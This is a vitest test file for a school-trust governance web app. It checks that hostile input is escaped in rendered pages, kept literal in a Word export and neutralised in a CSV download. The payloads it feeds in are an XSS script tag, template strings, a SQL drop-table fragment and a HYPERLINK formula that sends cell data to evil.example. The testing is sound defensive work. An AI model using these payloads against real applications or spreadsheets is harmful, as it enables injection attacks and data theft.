/**
 * Hostile text that the app accepts (a body's name, chair and remit, a responsibility's title, the
 * trust's vision) is shown as text, never run as markup, as a template or as a spreadsheet formula:
 * entered through the pages' own actions, then rendered by the pages that show it (each page's
 * component, server-side, with its loader's data, as Remix renders it), written into the Word
 * document, read back by python-docx, and into the matrix's CSV download. In the HTML the literal
 * <script> appears only as &lt;script&gt;; in the document it is literal, and {{handlebars}} stays as
 * typed; in the CSV a formula is marked as text with an apostrophe, and the import reads it as typed.
 */
import fs from "node:fs";
import path from "node:path";
import { createElement, type ComponentType } from "react";
import { renderToString } from "react-dom/server";
import type { RouteObject } from "react-router-dom";
import { createStaticHandler, createStaticRouter, StaticRouterProvider } from "react-router-dom/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DatabaseHandle } from "../../db/client";
import { DEMO_USERS, seedDemoTrust, type DemoTrust } from "../../db/seed";
import { renderSchemeDocument } from "~/export/scheme-document.server";
import { COMMAND_LINE } from "~/models/audit.server";
import { loadSchemeDocument } from "~/models/scheme-document.server";
import { loadStoredStrategy } from "~/models/strategy.server";
import * as bodyPage from "~/routes/trusts.$slug.structure_.bodies.$bodyId";
import * as catalogueNew from "~/routes/trusts.$slug.catalogue.new";
import * as cataloguePage from "~/routes/trusts.$slug.catalogue._index";
import * as strategyPage from "~/routes/trusts.$slug.strategy";
import * as structurePage from "~/routes/trusts.$slug.structure";
import * as versionPage from "~/routes/trusts.$slug.versions.$number._index";
import { freshDatabase } from "../support/database";
import { call, formPost, getRequest, ORIGIN, sessionCookie } from "../support/requests";
import { readDocx, scratchDir, type DocxReading } from "../support/word-documents";
import { parseCsv } from "~/domain/csv";
import * as versionCsv from "~/routes/trusts.$slug.versions.$number[.]csv";

const SCRIPT = "<script>alert(1)</script>";
const ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;";
const BODY_NAME = `${SCRIPT} Committee`;
const CHAIR = "{{handlebars}} Chair";
const REMIT = "{{{x}}} and '; drop table trusts; -- are only words";
const TITLE = `Approve ${SCRIPT} and {{handlebars}}`;
const VISION = `Every child in {{trust.name}}, taught well. ${SCRIPT}`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Approve the budget")';

let handle: DatabaseHandle;
let demo: DemoTrust;
let clerk: string;
let bodyId: string;
let scratch: string;

/** The page as the server renders it: the route's component with its loader's data, in a router of its own. */
async function renderPage(module: { loader: unknown; default: ComponentType }, url: string, params: Record<string, string>): Promise<string> {
  const answer = await call(module.loader, getRequest(url, clerk), params);
  expect(answer.status, `${url}: ${answer.text.slice(0, 200)}`).toBe(200);
  const routes: RouteObject[] = [{ id: "page", path: "*", loader: () => answer.data as Record<string, unknown>, Component: module.default }];
  const handler = createStaticHandler(routes);
  const context = await handler.query(new Request(new URL(url, ORIGIN)));
  if (context instanceof Response) throw new Error(`The router answered ${context.status} for ${url}`);
  return renderToString(createElement(StaticRouterProvider, { router: createStaticRouter(handler.dataRoutes, context), context, hydrate: false }));
}

function expectEscaped(html: string, typed: string[]) {
  expect(html.length).toBeGreaterThan(1000);
  expect(html).not.toMatch(/<script/i);
  expect(html).toContain(ESCAPED);
  for (const text of typed) expect(html).toContain(text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/'/g, "&#x27;"));
}

beforeAll(async () => {
  handle = await freshDatabase();
  demo = await seedDemoTrust(handle.db, COMMAND_LINE);
  const person = DEMO_USERS.find((u) => u.role === "clerk")!;
  clerk = await sessionCookie(person.email, person.password);
  scratch = scratchDir("sod-hostile-text");
  const slug = demo.trust.slug;

  // Entered as people enter them: through the pages' own forms.
  const created = await call(
    structurePage.action,
    formPost(`/trusts/${slug}/structure`, { intent: "create-body", kind: "committee", columnId: "none", name: BODY_NAME, chairName: CHAIR, remit: REMIT }, { cookie: clerk }),
    { slug },
  );
  expect(created.status, created.text).toBe(200);
  bodyId = (created.data as { added: { id: string } }).added.id;
  const added = await call(catalogueNew.action, formPost(`/trusts/${slug}/catalogue/new`, { area: "4", title: TITLE, guidance: SCRIPT }, { cookie: clerk }), { slug });
  expect(added.status, added.text).toBe(302);
  const formula = await call(catalogueNew.action, formPost(`/trusts/${slug}/catalogue/new`, { area: "4", title: FORMULA }, { cookie: clerk }), { slug });
  expect(formula.status, formula.text).toBe(302);
  const { version } = await loadStoredStrategy(handle.db, demo.trust.id);
  const saved = await call(strategyPage.action, formPost(`/trusts/${slug}/strategy`, { version: String(version), vision: VISION }, { cookie: clerk }), { slug });
  expect(saved.status, saved.text).toBe(302);
});
afterAll(async () => {
  fs.rmSync(scratch, { recursive: true, force: true });
  await handle?.close();
});

describe("hostile text that was accepted", () => {
  it("shows escaped on the structure page and the body's own page", async () => {
    const slug = demo.trust.slug;
    expectEscaped(await renderPage(structurePage, `/trusts/${slug}/structure`, { slug }), [BODY_NAME, CHAIR]);
    expectEscaped(await renderPage(bodyPage, `/trusts/${slug}/structure/bodies/${bodyId}`, { slug, bodyId }), [BODY_NAME, CHAIR, REMIT]);
  });

  it("shows escaped in the matrix, whose table is written as one HTML string, and in the catalogue", async () => {
    const slug = demo.trust.slug;
    const matrix = await renderPage(versionPage, `/trusts/${slug}/versions/3`, { slug, number: "3" });
    expectEscaped(matrix, [TITLE]);
    expect(matrix).toContain(`${ESCAPED} Committee`);
    expectEscaped(await renderPage(cataloguePage, `/trusts/${slug}/catalogue`, { slug }), [TITLE]);
  });

  it("shows escaped on the strategy page", async () => {
    const slug = demo.trust.slug;
    expectEscaped(await renderPage(strategyPage, `/trusts/${slug}/strategy`, { slug }), [VISION]);
  });

  it("is literal in the Word document: no markup, and {{handlebars}} not taken for a template", async () => {
    const data = await loadSchemeDocument(handle.db, demo.trust.id, demo.draftVersionId);
    const file = path.join(scratch, "hostile.docx");
    fs.writeFileSync(file, await renderSchemeDocument(data));
    const reading: DocxReading = await readDocx(file);
    const text = reading.blocks.map((b) => (b.type === "paragraph" ? b.text : b.rows.flat().join("\n"))).join("\n");
    for (const typed of [BODY_NAME, CHAIR, REMIT, TITLE, VISION]) expect(text, typed).toContain(typed);
    expect(text).not.toContain("&lt;");
    expect(text).not.toContain(`Every child in ${demo.trust.name}`);
  });

  it("is text in the matrix's CSV download: a formula marked with an apostrophe, read back as typed", async () => {
    const slug = demo.trust.slug;
    const answer = await call(versionCsv.loader, getRequest(`/trusts/${slug}/versions/3.csv`, clerk), { slug, number: "3" });
    expect(answer.status).toBe(200);
    expect(answer.text).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(answer.text).not.toMatch(/(^|,)"?[=+@]/m);
    const titles = parseCsv(answer.text).map((r) => r.fields);
    expect(titles.some((fields) => fields.includes(FORMULA))).toBe(true);
  });
});
